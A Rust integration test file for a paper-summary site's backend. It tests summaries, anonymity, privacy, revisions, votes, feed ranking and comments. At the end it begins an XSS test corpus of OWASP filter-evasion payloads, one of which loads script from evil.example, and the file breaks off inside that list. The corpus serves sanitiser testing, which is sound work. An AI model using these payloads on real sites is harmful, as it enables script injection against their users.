//! Summaries: writing, reading, anonymity, privacy, revisions, deletion, moderation, votes,
//! ranking and the feed.

use std::collections::HashSet;

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use shortscience_types::{
    CommentThread, PaperDetail, RevisionDiff, RevisionList, Role, SummaryDetail, SummaryPage,
    UserProfile, UserSummaryPage, VoteResult,
};

use crate::accounts::Account;
use crate::helpers::*;

const MATH_BODY: &str = "We minimise $\\mathcal{L} = \\sum_i \\|x_i - \\hat{x}_i\\|^2$ where \
    $a_1 * b_2 * c_3$ keeps its stars, and\n\n$$\\int_0^1 f(x)\\,dx$$\n\nAlso \\(e^{i\\pi} + 1 = 0\\).";

/// A paper added by hand; returns its id.
pub async fn paper(app: &TestApp, account: &Account, title: &str) -> i64 {
    let response = app
        .post_json(
            "/api/v1/papers",
            &json!({"title": title, "authors": ["Ada Lovelace"], "year": 2020}),
            Some(&account.access),
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let paper: PaperDetail = response.json().await.unwrap();
    paper.id.0
}

pub async fn write(app: &TestApp, account: &Account, paper: i64, body: Value) -> reqwest::Response {
    app.post_json(
        &format!("/api/v1/papers/{paper}/summaries"),
        &body,
        Some(&account.access),
    )
    .await
}

/// Writes a public summary and returns its id.
pub async fn summary(app: &TestApp, account: &Account, paper: i64, text: &str) -> i64 {
    let response = write(app, account, paper, json!({"body_markdown": text})).await;
    assert_eq!(response.status(), StatusCode::CREATED, "writing a summary");
    let detail: SummaryDetail = response.json().await.unwrap();
    detail.summary.id.0
}

pub async fn vote(app: &TestApp, account: &Account, summary: i64, value: i32) -> reqwest::Response {
    app.send(
        Method::PUT,
        &format!("/api/v1/summaries/{summary}/vote"),
        Some(&json!({"value": value})),
        Some(&account.access),
    )
    .await
}

pub async fn register_many(app: &TestApp, prefix: &str, n: usize) -> Vec<Account> {
    let mut accounts = Vec::with_capacity(n);
    for i in 0..n {
        accounts.push(app.register(&format!("{prefix}{i}")).await);
    }
    accounts
}

backend_test! {
    async fn summaries_render_markdown_and_math_and_one_per_user_per_paper(app) {
        let ada = app.register("ada").await;
        let paper = paper(&app, &ada, "Math Paper").await;
        let response = write(&app, &ada, paper, json!({"body_markdown": MATH_BODY})).await;
        assert_eq!(response.status(), StatusCode::CREATED);
        let location = response.headers().get("location").and_then(|v| v.to_str().ok()).map(str::to_owned);
        let created: SummaryDetail = response.json().await.unwrap();
        assert_eq!(location, Some(format!("/api/v1/summaries/{}", created.summary.id)));
        let html = created.summary.body_html.as_deref().unwrap();
        assert_eq!(html.matches("<math").count(), 4, "{html}");
        assert!(html.contains("display=\"block\""), "{html}");
        // Markdown did not eat the stars or underscores inside the formula.
        assert!(!html.contains("<em>"), "{html}");
        assert!(created.summary.mine && created.summary.author.is_some());
        assert_eq!(created.paper.id.0, paper);

        // The same text, read back publicly.
        let public: SummaryDetail = app.get_json(&format!("/api/v1/summaries/{}", created.summary.id)).await;
        assert_eq!(public.summary.body_html, created.summary.body_html);
        assert!(!public.summary.mine);
        let detail: PaperDetail = app.get_json(&format!("/api/v1/papers/{paper}")).await;
        assert_eq!(detail.summary_count, 1);
        assert_eq!(detail.summaries.len(), 1);

        // A second summary of the same paper by the same user is a conflict naming the first.
        let again = write(&app, &ada, paper, json!({"body_markdown": "another"})).await;
        let problem = assert_problem(again, StatusCode::CONFLICT, "summary_exists").await;
        assert_eq!(problem.summary_id, Some(created.summary.id), "the existing summary, as data");
        assert!(problem.detail.unwrap_or_default().contains(&format!("/api/v1/summaries/{}", created.summary.id)));

        // Bad input names the field.
        let bob = app.register("bob").await;
        let empty = write(&app, &bob, paper, json!({"body_markdown": "   "})).await;
        let problem = assert_problem(empty, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert_eq!(problem.errors[0].field, "body_markdown");
        let long = write(&app, &bob, paper, json!({"body_markdown": "x".repeat(50_001)})).await;
        let problem = assert_problem(long, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert_eq!(problem.errors[0].field, "body_markdown");
        let unknown = write(&app, &bob, paper, json!({"body_markdown": "ok", "score": 100})).await;
        assert_eq!(unknown.status(), StatusCode::BAD_REQUEST);
        let missing = write(&app, &bob, 999_999, json!({"body_markdown": "ok"})).await;
        assert_problem(missing, StatusCode::NOT_FOUND, "not_found").await;
        // The long text fits exactly at the limit.
        let at_limit = write(&app, &bob, paper, json!({"body_markdown": "y".repeat(50_000)})).await;
        assert_eq!(at_limit.status(), StatusCode::CREATED);
    }
}

backend_test! {
    async fn anonymous_summaries_never_name_their_author_to_others(app) {
        let writer = app.register("secretwriter").await;
        let reader = app.register("reader").await;
        let moderator = app.register("moddy").await;
        app.set_role("moddy", Role::Moderator);
        let paper = paper(&app, &reader, "A Paper").await;
        let response = write(&app, &writer, paper, json!({"body_markdown": "Anonymous thoughts.", "anonymous": true})).await;
        assert_eq!(response.status(), StatusCode::CREATED);
        let created: SummaryDetail = response.json().await.unwrap();
        let id = created.summary.id.0;
        // The author sees their name; so do moderators.
        assert_eq!(created.summary.author.map(|a| a.username), Some("secretwriter".to_owned()));
        let as_mod: SummaryDetail = app.get_json_as(&format!("/api/v1/summaries/{id}"), &moderator.access).await;
        assert_eq!(as_mod.summary.author.map(|a| a.username), Some("secretwriter".to_owned()));
        // Votes and comments happen around it.
        assert_eq!(vote(&app, &reader, id, 1).await.status(), StatusCode::OK);
        let comment = app.post_json(&format!("/api/v1/summaries/{id}/comments"), &json!({"body_markdown": "Who wrote this?"}), Some(&reader.access)).await;
        assert_eq!(comment.status(), StatusCode::CREATED);

        // No response to anyone else carries the author's username.
        let paths = [
            format!("/api/v1/summaries/{id}"),
            format!("/api/v1/summaries/{id}/revisions"),
            format!("/api/v1/summaries/{id}/revisions/diff"),
            format!("/api/v1/summaries/{id}/comments"),
            format!("/api/v1/papers/{paper}"),
            "/api/v1/papers".to_owned(),
            "/api/v1/papers?sort=recent".to_owned(),
            "/api/v1/summaries".to_owned(),
            "/api/v1/summaries?sort=new".to_owned(),
            "/api/v1/summaries?sort=top".to_owned(),
            "/api/v1/users/secretwriter/summaries".to_owned(),
        ];
        for path in &paths {
            for bearer in [None, Some(reader.access.as_str())] {
                let response = app.send(Method::GET, path, None, bearer).await;
                assert_eq!(response.status(), StatusCode::OK, "GET {path}");
                let vary: Vec<String> = response.headers().get_all("vary").iter().filter_map(|v| v.to_str().ok()).map(str::to_ascii_lowercase).collect();
                assert!(vary.iter().any(|v| v.contains("authorization")), "GET {path}: caches must key on credentials: {vary:?}");
                let text = response.text().await.unwrap();
                assert!(!text.contains("secretwriter"), "GET {path} revealed the author: {text}");
            }
        }
        let feed: SummaryPage = app.get_json("/api/v1/summaries").await;
        assert!(feed.items.iter().any(|s| s.summary.id.0 == id && s.summary.author.is_none() && s.summary.anonymous));
        // Not on the profile and not in the reputation.
        let profile: UserProfile = app.get_json("/api/v1/users/secretwriter").await;
        assert_eq!((profile.summary_count, profile.reputation), (0, 0));
        let listed: UserSummaryPage = app.get_json("/api/v1/users/secretwriter/summaries").await;
        assert!(listed.items.is_empty());
    }
}

backend_test! {
    async fn private_summaries_open_only_for_their_author_and_share_link(app) {
        let writer = app.register("private1").await;
        let other = app.register("other1").await;
        let paper = paper(&app, &writer, "Quiet Paper").await;
        let response = write(&app, &writer, paper, json!({"body_markdown": "Just for me.", "visibility": "private"})).await;
        assert_eq!(response.status(), StatusCode::CREATED);
        let created: SummaryDetail = response.json().await.unwrap();
        let id = created.summary.id.0;
        let token = created.share_token.clone().expect("the author gets the share token");
        assert!(token.len() >= 40, "the token is long and random: {token}");

        assert_problem(app.get(&format!("/api/v1/summaries/{id}")).await, StatusCode::NOT_FOUND, "not_found").await;
        let as_other = app.send(Method::GET, &format!("/api/v1/summaries/{id}"), None, Some(&other.access)).await;
        assert_eq!(as_other.status(), StatusCode::NOT_FOUND);
        let wrong = app.client.get(app.url(&format!("/api/v1/summaries/{id}"))).header("x-share-token", "nope").send().await.unwrap();
        assert_eq!(wrong.status(), StatusCode::NOT_FOUND);
        let shared = app.client.get(app.url(&format!("/api/v1/summaries/{id}"))).header("x-share-token", &token).send().await.unwrap();
        assert_eq!(shared.status(), StatusCode::OK);
        let shared: SummaryDetail = shared.json().await.unwrap();
        assert!(shared.share_token.is_none(), "only the author is shown the token");

        // Not listed anywhere public, not counted, not votable.
        let detail: PaperDetail = app.get_json(&format!("/api/v1/papers/{paper}")).await;
        assert_eq!((detail.summary_count, detail.summaries.len()), (0, 0));
        let feed: SummaryPage = app.get_json("/api/v1/summaries?sort=new").await;
        assert!(feed.items.iter().all(|s| s.summary.id.0 != id));
        assert_problem(vote(&app, &other, id, 1).await, StatusCode::NOT_FOUND, "not_found").await;
        // The author still sees it on the paper page.
        let own: PaperDetail = app.get_json_as(&format!("/api/v1/papers/{paper}"), &writer.access).await;
        assert_eq!(own.summaries.len(), 1);

        // Going public lists it and drops the token.
        let response = app.send(Method::PATCH, &format!("/api/v1/summaries/{id}"), Some(&json!({"visibility": "public"})), Some(&writer.access)).await;
        assert_eq!(response.status(), StatusCode::OK);
        let public: SummaryDetail = response.json().await.unwrap();
        assert!(public.share_token.is_none());
        let detail: PaperDetail = app.get_json(&format!("/api/v1/papers/{paper}")).await;
        assert_eq!(detail.summary_count, 1);
    }
}

backend_test! {
    async fn edits_keep_revisions_and_a_diff_and_do_not_bump_the_feed(app) {
        let writer = app.register("reviser").await;
        let other = app.register("notauthor").await;
        let paper = paper(&app, &writer, "Revised Paper").await;
        let id = summary(&app, &writer, paper, "line one\nline two\n").await;
        let before: SummaryDetail = app.get_json(&format!("/api/v1/summaries/{id}")).await;
        assert!(before.summary.edited_at.is_none());

        for text in ["line one\nline 2\n", "line one\nline 2\nline three $x^2$\n"] {
            let response = app.send(Method::PATCH, &format!("/api/v1/summaries/{id}"), Some(&json!({"body_markdown": text})), Some(&writer.access)).await;
            assert_eq!(response.status(), StatusCode::OK);
        }
        // Saving the same text again is not a new revision.
        app.send(Method::PATCH, &format!("/api/v1/summaries/{id}"), Some(&json!({"body_markdown": "line one\nline 2\nline three $x^2$\n"})), Some(&writer.access)).await;
        let after: SummaryDetail = app.get_json(&format!("/api/v1/summaries/{id}")).await;
        assert!(after.summary.edited_at.is_some());
        assert!(after.summary.body_html.unwrap().contains("<math"));
        assert_eq!(after.summary.hot, before.summary.hot, "editing does not bump");

        let revisions: RevisionList = app.get_json(&format!("/api/v1/summaries/{id}/revisions")).await;
        assert_eq!(revisions.items.iter().map(|r| r.number).collect::<Vec<_>>(), [1, 2, 3]);
        assert_eq!(revisions.items[0].body_markdown, "line one\nline two\n");
        let diff: RevisionDiff = app.get_json(&format!("/api/v1/summaries/{id}/revisions/diff?from=1&to=3")).await;
        let ops: Vec<(String, String)> = diff.lines.iter().map(|l| (format!("{:?}", l.op), l.text.clone())).collect();
        assert!(ops.contains(&("Delete".to_owned(), "line two".to_owned())), "{ops:?}");
        assert!(ops.contains(&("Insert".to_owned(), "line 2".to_owned())), "{ops:?}");
        assert!(ops.contains(&("Insert".to_owned(), "line three $x^2$".to_owned())), "{ops:?}");
        assert!(ops.contains(&("Equal".to_owned(), "line one".to_owned())), "{ops:?}");
        let default: RevisionDiff = app.get_json(&format!("/api/v1/summaries/{id}/revisions/diff")).await;
        assert_eq!((default.from, default.to), (2, 3));
        let bad = app.get(&format!("/api/v1/summaries/{id}/revisions/diff?from=4")).await;
        let problem = assert_problem(bad, StatusCode::NOT_FOUND, "not_found").await;
        assert!(problem.detail.as_deref().is_some_and(|d| d.contains("no revision 4 (`from`)")), "{:?}", problem.detail);

        // Only the author edits the text.
        let response = app.send(Method::PATCH, &format!("/api/v1/summaries/{id}"), Some(&json!({"body_markdown": "vandalism"})), Some(&other.access)).await;
        assert_problem(response, StatusCode::FORBIDDEN, "not_author").await;
        let unchanged: RevisionList = app.get_json(&format!("/api/v1/summaries/{id}/revisions")).await;
        assert_eq!(unchanged.items.len(), 3);
    }
}

backend_test! {
    async fn deleting_is_soft_and_moderators_hide(app) {
        let writer = app.register("deleter").await;
        let other = app.register("someone").await;
        let moderator = app.register("modhide").await;
        app.set_role("modhide", Role::Moderator);
        let paper = paper(&app, &writer, "Deleted Paper").await;
        let id = summary(&app, &writer, paper, "first text").await;

        // Moderators hide: gone for readers, still there for the author and moderators.
        let response = app.send(Method::PATCH, &format!("/api/v1/summaries/{id}"), Some(&json!({"hidden": true, "reason": "spam"})), Some(&moderator.access)).await;
        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(app.get(&format!("/api/v1/summaries/{id}")).await.status(), StatusCode::NOT_FOUND);
        let seen: SummaryDetail = app.get_json_as(&format!("/api/v1/summaries/{id}"), &writer.access).await;
        assert!(seen.summary.hidden);
        let detail: PaperDetail = app.get_json(&format!("/api/v1/papers/{paper}")).await;
        assert_eq!(detail.summary_count, 0);
        // Authors cannot unhide; other users cannot hide.
        let response = app.send(Method::PATCH, &format!("/api/v1/summaries/{id}"), Some(&json!({"hidden": false})), Some(&writer.access)).await;
        assert_problem(response, StatusCode::FORBIDDEN, "not_moderator").await;
        let response = app.send(Method::PATCH, &format!("/api/v1/summaries/{id}"), Some(&json!({"hidden": false})), Some(&moderator.access)).await;
        assert_eq!(response.status(), StatusCode::OK);
        let detail: PaperDetail = app.get_json(&format!("/api/v1/papers/{paper}")).await;
        assert_eq!(detail.summary_count, 1);

        // Only the author deletes; the summary disappears but its row (and revisions) remain.
        let response = app.send(Method::DELETE, &format!("/api/v1/summaries/{id}"), None, Some(&other.access)).await;
        assert_problem(response, StatusCode::FORBIDDEN, "not_author").await;
        let response = app.send(Method::DELETE, &format!("/api/v1/summaries/{id}"), None, Some(&writer.access)).await;
        assert_eq!(response.status(), StatusCode::NO_CONTENT);
        assert_eq!(app.get(&format!("/api/v1/summaries/{id}")).await.status(), StatusCode::NOT_FOUND);
        let detail: PaperDetail = app.get_json(&format!("/api/v1/papers/{paper}")).await;
        assert_eq!((detail.summary_count, detail.summaries.len()), (0, 0));

        // Writing again revives the same summary with the new text as a new revision.
        let revived = summary(&app, &writer, paper, "second text").await;
        assert_eq!(revived, id);
        let revisions: RevisionList = app.get_json(&format!("/api/v1/summaries/{id}/revisions")).await;
        assert_eq!(revisions.items.len(), 2);
    }
}

backend_test! {
    async fn votes_count_once_per_user_and_update_totals_and_ranks(app) {
        let writer = app.register("voted").await;
        let voters = register_many(&app, "voter", 3).await;
        let paper = paper(&app, &writer, "Voted Paper").await;
        let id = summary(&app, &writer, paper, "vote on me").await;

        let result: VoteResult = vote(&app, &voters[0], id, 1).await.json().await.unwrap();
        assert_eq!((result.value, result.ups, result.downs, result.score), (1, 1, 0, 1));
        let again: VoteResult = vote(&app, &voters[0], id, 1).await.json().await.unwrap();
        assert_eq!((again.ups, again.score), (1, 1), "repeating a vote changes nothing");
        let switched: VoteResult = vote(&app, &voters[0], id, -1).await.json().await.unwrap();
        assert_eq!((switched.ups, switched.downs, switched.score), (0, 1, -1));
        vote(&app, &voters[1], id, 1).await;
        let third: VoteResult = vote(&app, &voters[2], id, 1).await.json().await.unwrap();
        assert_eq!((third.ups, third.downs, third.score), (2, 1, 1));
        assert!(third.rank > 0.0 && third.rank < 2.0 / 3.0, "Wilson lower bound below the observed fraction");
        let withdrawn: VoteResult = vote(&app, &voters[0], id, 0).await.json().await.unwrap();
        assert_eq!((withdrawn.value, withdrawn.ups, withdrawn.downs), (0, 2, 0));

        // The stored values match what the API reports, and the viewer sees their own vote.
        let seen: SummaryDetail = app.get_json_as(&format!("/api/v1/summaries/{id}"), &voters[1].access).await;
        assert_eq!((seen.summary.ups, seen.summary.downs, seen.summary.my_vote), (2, 0, 1));
        assert_eq!(seen.summary.rank, withdrawn.rank);
        assert_eq!(seen.summary.hot, withdrawn.hot);
        let on_paper: PaperDetail = app.get_json_as(&format!("/api/v1/papers/{paper}"), &voters[1].access).await;
        assert_eq!(on_paper.summaries[0].my_vote, 1);

        // Refusals.
        assert_problem(vote(&app, &writer, id, 1).await, StatusCode::FORBIDDEN, "own_summary").await;
        let bad = vote(&app, &voters[0], id, 2).await;
        let problem = assert_problem(bad, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert_eq!(problem.errors[0].field, "value");
        let anonymous = app.send(Method::PUT, &format!("/api/v1/summaries/{id}/vote"), Some(&json!({"value": 1})), None).await;
        assert_eq!(anonymous.status(), StatusCode::UNAUTHORIZED);
        assert_problem(vote(&app, &voters[0], 999_999, 1).await, StatusCode::NOT_FOUND, "not_found").await;
    }
}

backend_test! {
    async fn thirty_two_parallel_identical_votes_count_once(app) {
        let writer = app.register("popular").await;
        let voter = app.register("eager").await;
        let paper = paper(&app, &writer, "Contended Paper").await;
        let id = summary(&app, &writer, paper, "contended").await;
        let votes = (0..32).map(|_| vote(&app, &voter, id, 1));
        let responses = futures_util::future::join_all(votes).await;
        for response in responses {
            assert_eq!(response.status(), StatusCode::OK);
        }
        let seen: SummaryDetail = app.get_json(&format!("/api/v1/summaries/{id}")).await;
        assert_eq!((seen.summary.ups, seen.summary.downs, seen.summary.score), (1, 0, 1));
        let stored: i64 = app.with_conn(|conn| {
            use diesel::prelude::*;
            use shortscience_server::db::schema::votes;
            votes::table.filter(votes::summary_id.eq(id)).count().get_result(conn).unwrap()
        });
        assert_eq!(stored, 1);
    }
}

backend_test! {
    async fn parallel_votes_by_many_users_all_count(app) {
        let writer = app.register("celebrity").await;
        let voters = register_many(&app, "fan", 32).await;
        let paper = paper(&app, &writer, "Crowded Paper").await;
        let id = summary(&app, &writer, paper, "crowded").await;
        let votes = voters.iter().enumerate().map(|(i, v)| vote(&app, v, id, if i % 4 == 0 { -1 } else { 1 }));
        for response in futures_util::future::join_all(votes).await {
            assert_eq!(response.status(), StatusCode::OK);
        }
        let seen: SummaryDetail = app.get_json(&format!("/api/v1/summaries/{id}")).await;
        assert_eq!((seen.summary.ups, seen.summary.downs, seen.summary.score), (24, 8, 16));
        assert_eq!(seen.summary.hot, shortscience_server::domain::ranking::hot(16, seen.summary.created_at.naive_utc()));
    }
}

/// `n` summaries by `n` new writers, each on a paper of its own, all created at the same instant
/// (so that only votes order them in `hot`).
pub async fn same_age_summaries(app: &TestApp, prefix: &str, n: usize) -> Vec<i64> {
    let writers = register_many(app, &format!("{prefix}-writer"), n).await;
    let mut ids = Vec::new();
    for (i, writer) in writers.iter().enumerate() {
        let paper = paper(app, writer, &format!("{prefix} paper {i}")).await;
        ids.push(summary(app, writer, paper, &format!("{prefix} {i}")).await);
    }
    let same_time = chrono::DateTime::from_timestamp(1_750_000_000, 0)
        .map(|t| t.naive_utc())
        .unwrap_or_default();
    for id in &ids {
        set_created(app, *id, same_time);
    }
    ids
}

/// Votes the last summary not seen yet up, once per voter, so it jumps above the pages read.
pub async fn lift_unseen(
    app: &TestApp,
    voters: impl Iterator<Item = &Account>,
    ids: &[i64],
    seen: &[i64],
) {
    let Some(riser) = ids.iter().copied().rfind(|id| !seen.contains(id)) else {
        return;
    };
    for voter in voters {
        vote(app, voter, riser, 1).await;
    }
}

/// A paging through `ids` saw each exactly once: no repeats, nothing skipped.
pub fn assert_each_once(seen: &[i64], ids: &[i64], label: &str) {
    let unique: HashSet<i64> = seen.iter().copied().collect();
    assert_eq!(
        unique.len(),
        seen.len(),
        "{label}: repeated an item: {seen:?}"
    );
    assert_eq!(
        unique,
        ids.iter().copied().collect::<HashSet<_>>(),
        "{label}: skipped an item"
    );
}

/// Sets a summary's creation time (and its hot value to match), to test ranking at fixed ages.
pub fn set_created(app: &TestApp, id: i64, at: chrono::NaiveDateTime) {
    use diesel::prelude::*;
    use shortscience_server::db::schema::summaries;
    app.with_conn(|conn| {
        let score: i32 = summaries::table
            .find(id)
            .select(summaries::score)
            .first(conn)
            .unwrap();
        diesel::update(summaries::table.find(id))
            .set((
                summaries::created_at.eq(at),
                summaries::hot.eq(shortscience_server::domain::ranking::hot(score, at)),
            ))
            .execute(conn)
            .unwrap();
    });
}

async fn all_pages(app: &TestApp, query: &str, limit: usize) -> Vec<i64> {
    let mut ids = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/api/v1/summaries?{query}&limit={limit}&cursor={c}"),
            None => format!("/api/v1/summaries?{query}&limit={limit}"),
        };
        let page: SummaryPage = app.get_json(&path).await;
        assert!(page.items.len() <= limit);
        ids.extend(page.items.iter().map(|s| s.summary.id.0));
        match page.next_cursor {
            Some(next) => cursor = Some(next),
            None => return ids,
        }
    }
}

backend_test! {
    async fn the_feed_ranks_hot_new_and_top_as_documented_and_pages_cleanly(app) {
        let voters = register_many(&app, "ranker", 6).await;
        let writers = register_many(&app, "author", 7).await;
        let mut ids = Vec::new();
        for (i, writer) in writers.iter().enumerate() {
            let paper = paper(&app, writer, &format!("Ranked Paper {i}")).await;
            ids.push(summary(&app, writer, paper, &format!("summary {i}")).await);
        }
        // Net votes: summary i gets i up-votes (0..=6), except the last, which gets 2 down-votes.
        for (i, id) in ids.iter().enumerate().take(6) {
            for voter in voters.iter().take(i) {
                assert_eq!(vote(&app, voter, *id, 1).await.status(), StatusCode::OK);
            }
        }
        vote(&app, &voters[0], ids[6], -1).await;
        vote(&app, &voters[1], ids[6], -1).await;

        // At equal age, more net votes never rank lower.
        let same_time = chrono::DateTime::from_timestamp(1_750_000_000, 0).unwrap().naive_utc();
        for id in &ids {
            set_created(&app, *id, same_time);
        }
        let hot = all_pages(&app, "sort=hot", 100).await;
        assert_eq!(hot, vec![ids[5], ids[4], ids[3], ids[2], ids[1], ids[0], ids[6]]);
        // A day younger beats ten times the votes? 45000 s per factor of ten: one day is ~1.9
        // orders of magnitude, so a fresh summary with 1 vote outranks a day-old one with 5.
        let day_later = same_time + chrono::Duration::days(1);
        set_created(&app, ids[1], day_later);
        // Changed behind the server's back: a (no-op) vote tells the feed its order changed.
        vote(&app, &voters[5], ids[0], 0).await;
        let hot = all_pages(&app, "sort=hot", 100).await;
        assert_eq!(hot[0], ids[1]);
        // Concatenated pages equal the full ordering, for every sort.
        for query in ["sort=hot", "sort=new", "sort=top", "sort=top&period=all"] {
            let full = all_pages(&app, query, 100).await;
            for limit in [1, 2, 3] {
                assert_eq!(all_pages(&app, query, limit).await, full, "{query} with limit {limit}");
            }
        }
        let top = all_pages(&app, "sort=top", 100).await;
        assert_eq!(top[0], ids[5]);
        assert_eq!(*top.last().unwrap(), ids[6]);
        // New: newest first (ids[1] is now the youngest).
        let new = all_pages(&app, "sort=new", 100).await;
        assert_eq!(new[0], ids[1]);
        // Periods: all are "old" (2025) except none; a week window is empty.
        let week = all_pages(&app, "sort=top&period=week", 100).await;
        assert!(week.is_empty(), "{week:?}");
        // Bad parameters name themselves.
        let problem = assert_problem(app.get("/api/v1/summaries?sort=best").await, StatusCode::BAD_REQUEST, "invalid_parameter").await;
        assert_eq!(problem.errors[0].field, "sort");
        let problem = assert_problem(app.get("/api/v1/summaries?period=decade").await, StatusCode::BAD_REQUEST, "invalid_parameter").await;
        assert_eq!(problem.errors[0].field, "period");
        let page: SummaryPage = app.get_json("/api/v1/summaries?sort=hot&limit=2").await;
        let cursor = page.next_cursor.unwrap();
        let problem = assert_problem(app.get(&format!("/api/v1/summaries?sort=top&cursor={cursor}")).await, StatusCode::BAD_REQUEST, "invalid_parameter").await;
        assert_eq!(problem.errors[0].field, "cursor");
    }
}

backend_test! {
    async fn paging_through_hot_neither_repeats_nor_skips_while_votes_change_it(app) {
        let voters = register_many(&app, "shaker", 8).await;
        let ids = same_age_summaries(&app, "paged", 9).await;
        for sort in ["hot", "top"] {
            let first: SummaryPage = app.get_json(&format!("/api/v1/summaries?sort={sort}&limit=3")).await;
            let mut seen: Vec<i64> = first.items.iter().map(|s| s.summary.id.0).collect();
            let mut cursor = first.next_cursor;
            // Between pages, votes lift the current last item to the top and sink the first.
            let mut round = 0;
            while let Some(c) = cursor {
                lift_unseen(&app, voters.iter().skip(round).take(3), &ids, &seen).await;
                vote(&app, &voters[7], seen[0], -1).await;
                round += 1;
                let page: SummaryPage = app.get_json(&format!("/api/v1/summaries?sort={sort}&limit=3&cursor={c}")).await;
                seen.extend(page.items.iter().map(|s| s.summary.id.0));
                cursor = page.next_cursor;
            }
            assert_each_once(&seen, &ids, sort);
            // A new reader sees the new order.
            let fresh: SummaryPage = app.get_json(&format!("/api/v1/summaries?sort={sort}&limit=100")).await;
            let keys: Vec<f64> = fresh.items.iter().map(|s| if sort == "hot" { s.summary.hot } else { f64::from(s.summary.score) }).collect();
            assert!(keys.windows(2).all(|w| w[0] >= w[1]), "{sort}: {keys:?}");
        }
    }
}

backend_test! {
    async fn comments_thread_and_keep_their_shape_when_deleted(app) {
        let writer = app.register("host").await;
        let guest = app.register("guest").await;
        let moderator = app.register("modcomm").await;
        app.set_role("modcomm", Role::Moderator);
        let paper = paper(&app, &writer, "Discussed Paper").await;
        let id = summary(&app, &writer, paper, "discuss me").await;
        let path = format!("/api/v1/summaries/{id}/comments");

        let post = |account: &Account, body: Value| {
            let access = account.access.clone();
            let path = path.clone();
            let app = &app;
            async move { app.post_json(&path, &body, Some(&access)).await }
        };
        let top: shortscience_types::Comment = post(&guest, json!({"body_markdown": "Why does $\\alpha_1$ matter?"})).await.json().await.unwrap();
        assert!(top.body_html.as_deref().unwrap_or_default().contains("<math"));
        let reply: shortscience_types::Comment = post(&writer, json!({"body_markdown": "Because **it** does.", "parent_id": top.id})).await.json().await.unwrap();
        let nested = post(&guest, json!({"body_markdown": "Thanks!", "parent_id": reply.id})).await;
        assert_eq!(nested.status(), StatusCode::CREATED);
        let second = post(&guest, json!({"body_markdown": "Another point"})).await.json::<shortscience_types::Comment>().await.unwrap();

        let thread: CommentThread = app.get_json(&path).await;
        assert_eq!(thread.count, 4);
        assert_eq!(thread.items.len(), 2);
        assert_eq!(thread.items[0].id, top.id);
        assert_eq!(thread.items[0].replies[0].id, reply.id);
        assert_eq!(thread.items[0].replies[0].replies[0].body_markdown.as_deref(), Some("Thanks!"));
        let summary_now: SummaryDetail = app.get_json(&format!("/api/v1/summaries/{id}")).await;
        assert_eq!(summary_now.summary.comment_count, 4);

        // Edit own; not others'.
        let response = app.send(Method::PATCH, &format!("/api/v1/comments/{}", top.id), Some(&json!({"body_markdown": "Why does $\\beta$ matter?"})), Some(&guest.access)).await;
        assert_eq!(response.status(), StatusCode::OK);
        let edited: shortscience_types::Comment = response.json().await.unwrap();
        assert!(edited.edited_at.is_some());
        let response = app.send(Method::PATCH, &format!("/api/v1/comments/{}", top.id), Some(&json!({"body_markdown": "hijack"})), Some(&writer.access)).await;
        assert_problem(response, StatusCode::FORBIDDEN, "not_author").await;

        // Deleting a comment with replies leaves a placeholder; without replies it goes.
        let response = app.send(Method::DELETE, &format!("/api/v1/comments/{}", top.id), None, Some(&guest.access)).await;
        assert_eq!(response.status(), StatusCode::NO_CONTENT);
        let response = app.send(Method::DELETE, &format!("/api/v1/comments/{}", second.id), None, Some(&guest.access)).await;
        assert_eq!(response.status(), StatusCode::NO_CONTENT);
        let thread: CommentThread = app.get_json(&path).await;
        assert_eq!(thread.count, 2);
        assert_eq!(thread.items.len(), 1);
        assert!(thread.items[0].deleted && thread.items[0].body_markdown.is_none() && thread.items[0].author.is_none());
        assert_eq!(thread.items[0].replies[0].id, reply.id);
        // No replies to deleted comments, nor to comments on other summaries.
        let response = post(&writer, json!({"body_markdown": "late", "parent_id": top.id})).await;
        let problem = assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert_eq!(problem.errors[0].field, "parent_id");

        // Moderators hide; readers no longer see the text.
        let response = app.send(Method::PATCH, &format!("/api/v1/comments/{}", reply.id), Some(&json!({"hidden": true})), Some(&guest.access)).await;
        assert_problem(response, StatusCode::FORBIDDEN, "not_moderator").await;
        let response = app.send(Method::PATCH, &format!("/api/v1/comments/{}", reply.id), Some(&json!({"hidden": true, "reason": "off topic"})), Some(&moderator.access)).await;
        assert_eq!(response.status(), StatusCode::OK);
        let thread: CommentThread = app.get_json(&path).await;
        let hidden = &thread.items[0].replies[0];
        assert!(hidden.hidden && hidden.body_html.is_none());
        assert_eq!(thread.count, 1);
        let as_mod: CommentThread = app.get_json_as(&path, &moderator.access).await;
        assert!(as_mod.items[0].replies[0].body_html.is_some());

        // Bad input.
        let response = post(&guest, json!({"body_markdown": ""})).await;
        assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        let response = post(&guest, json!({"body_markdown": "z".repeat(10_001)})).await;
        assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert_eq!(app.get("/api/v1/summaries/999999/comments").await.status(), StatusCode::NOT_FOUND);
    }
}

/// Strings from the OWASP XSS filter evasion cheat sheet and friends, plus Markdown and TeX
/// ways of smuggling them.
pub const XSS_CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
